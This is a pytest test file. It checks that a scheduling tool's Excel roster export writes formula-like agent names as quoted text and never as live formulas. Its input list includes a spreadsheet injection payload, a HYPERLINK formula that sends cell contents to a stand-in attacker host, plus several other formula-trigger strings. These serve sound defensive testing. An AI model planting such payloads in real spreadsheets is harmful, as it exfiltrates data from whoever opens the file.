"""Cells a spreadsheet would run as formulas are written as text (issue 19, item 6): an agent
named `=HYPERLINK(...)` must not become a live link in roster.xlsx."""

from __future__ import annotations

import zipfile

import pandas as pd
import pytest
from helpers import invoke
from openpyxl import load_workbook

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "Lan"]


@pytest.mark.slow  # a weekly run (about 2 s)
def test_formula_like_agent_names_are_text_in_the_workbook(small, tmp_path):
    hist = pd.read_csv(small.with_name("history.csv"))
    requirements = tmp_path / "req.csv"
    pd.DataFrame(
        {"timestamp": pd.date_range("2026-02-09", periods=7 * 24, freq="h"), "staff": 1}
    ).to_csv(requirements, index=False)
    assert len(hist)
    agents = tmp_path / "agents.csv"
    quoted = ['"' + n.replace('"', '""') + '"' for n in NAMES]
    agents.write_text("agent\n" + "\n".join(quoted) + "\n", encoding="utf-8")
    xlsx = tmp_path / "roster.xlsx"
    result = invoke(["schedule", requirements, "--rules", small, "--agents", agents,
                     "--xlsx", xlsx, "-o", tmp_path / "roster.csv"])  # fmt: skip
    assert result.exit_code in (0, 3), result.output
    sheet = load_workbook(xlsx)["Roster"]
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for name in NAMES:
        assert name in cells, name
        assert cells[name].data_type == "s"  # text, not a formula
        assert cells[name].quotePrefix == (name != "Lan")
    with zipfile.ZipFile(xlsx) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in text for text in sheets)  # no formula anywhere
